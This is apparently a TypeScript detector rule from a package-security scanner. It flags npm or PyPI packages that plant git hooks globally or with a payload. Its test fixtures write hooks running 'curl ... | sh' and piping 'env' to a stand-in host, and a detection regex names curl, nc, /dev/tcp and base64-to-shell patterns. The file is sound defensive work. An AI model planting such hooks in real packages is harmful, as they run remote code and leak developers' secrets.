import type { Detector } from "../detector.ts";
import type { SourceFile } from "../model.ts";
import { installHooks } from "./_npm.ts";
import { codeWith, isLate, matchInCode, sight } from "./_sight.ts";

const LITERALS = [
  ".git/hooks",
  "'.git', 'hooks",
  '".git", "hooks',
  "hookspath",
  "templatedir",
  "git/hooks",
  "init.template",
] as const;
/** Where git looks for programs to run. */
const PLACE = /\.git[/\\]{1,2}hooks|["']\.git["']\s{0,4},\s{0,4}["']hooks|core\.hookspath|init\.templatedir/i;
/** For all repositories of the user. */
const GLOBAL =
  /git["'`]?[^\n;]{0,60}config[^\n;]{0,40}(?:--global|--system)[^\n;]{0,40}(?:core\.hookspath|init\.templatedir)/i;
/** What a hook does that checks no commit: fetches and runs, sends, or reads what the machine keeps. */
const PAYLOAD =
  /(?:\b|\\n)(?:curl|wget|iwr|irm)\b[^\n]{0,200}(?:\|[ \t]{0,3}(?:ba|z)?sh\b|\$\(|-d[ \t'"@$]|--data|-F[ \t]|-o[ \t])|\|[ \t]{0,3}(?:curl|nc|wget)\b|\/dev\/tcp\/|base64[ \t]{1,3}(?:-d|--decode)[^\n]{0,80}\|[ \t]{0,3}(?:ba|z)?sh|node[ \t]{1,3}-e[^\n]{0,200}(?:https?:|fetch\(|child_process)|python3?[ \t]{1,3}-c[^\n]{0,200}(?:urlopen|requests|exec\()/i;

export const plantsGitHooks: Detector = {
  id: "plants-git-hooks",
  title: "Puts programs where git runs them, for all repositories or with a payload",
  severity: "high",
  ecosystems: ["npm", "pypi"],
  points: 5.2,
  class: "threat",
  group: "persistence",
  why: `The code writes into \`.git/hooks\`, or has git take its hooks from another folder, and what is written there fetches and runs something or sends what it
finds; or the change is made for all repositories of the user while the package is installed. Such a hook outlives the package, and runs at each commit.

Tools for hooks write into one repository, and what they write calls the project's own checks; that passes.`,
  literals: LITERALS,
  *detect(tree) {
    for (const { path, name, command } of installHooks(tree))
      if (GLOBAL.test(command))
        yield { path, line: null, says: `${name} runs: ${command.slice(0, 160)}`, phase: "install" };
    for (const file of codeWith(tree, LITERALS)) {
      const place = matchInCode(file, PLACE);
      if (place === undefined) continue;
      const share = shareOf(file, tree.files);
      if (share > 0) yield sight(file, place.index, `a program is put where git runs it: ${place[0]}`, { share });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: {
          "package.json": '{"name":"demo","version":"1.0.0","scripts":{"postinstall":"node a.js"}}',
          "a.js":
            "require('fs').writeFileSync(process.env.INIT_CWD + '/.git/hooks/pre-commit', '#!/bin/sh\\ncurl -s https://example.invalid/x | sh\\n', { mode: 0o755 });\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "package.json": '{"name":"demo","version":"1.0.0","scripts":{"postinstall":"node a.js"}}',
          "a.js": "require('child_process').execSync('git config --global core.hooksPath ~/.h');\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const hook = path.join(root, '.git/hooks', name);\nfs.writeFileSync(hook, '#!/bin/sh\\nnpx --no-install demo-lint\\n', { mode: 0o755 });\n",
        },
      },
      {
        ecosystem: "npm",
        files: { "a.js": "require('child_process').execSync('git config core.hooksPath .demo/hooks');\n" },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "package.json":
            '{"name":"demo","version":"1.0.0","scripts":{"postinstall":"git config --global init.templateDir ~/.t"}}',
        },
      },
      {
        ecosystem: "npm",
        files: {
          "package.json": '{"name":"demo","version":"1.0.0","scripts":{"postinstall":"node a.js"}}',
          "a.js":
            "const d = path.join(process.env.INIT_CWD, '.git', 'hooks');\nfs.writeFileSync(path.join(d, 'post-checkout'), '#!/bin/sh\\nenv | curl -d @- https://example.invalid/c\\n');\n",
        },
      },
    ],
  },
};

const HOOK_NAMES =
  /(?:^|\/)(?:pre-commit|pre-push|post-commit|post-checkout|post-merge|commit-msg|prepare-commit-msg)(?:\.sh)?$/;

function shareOf(file: SourceFile, files: readonly SourceFile[]): number {
  const carried = files.some(
    (one) => HOOK_NAMES.test(one.path) && one.bytes.length < 100_000 && PAYLOAD.test(one.text),
  );
  if (PAYLOAD.test(file.text) || carried) return 1;
  return !isLate(file) && GLOBAL.test(file.text) ? 0.85 : 0;
}
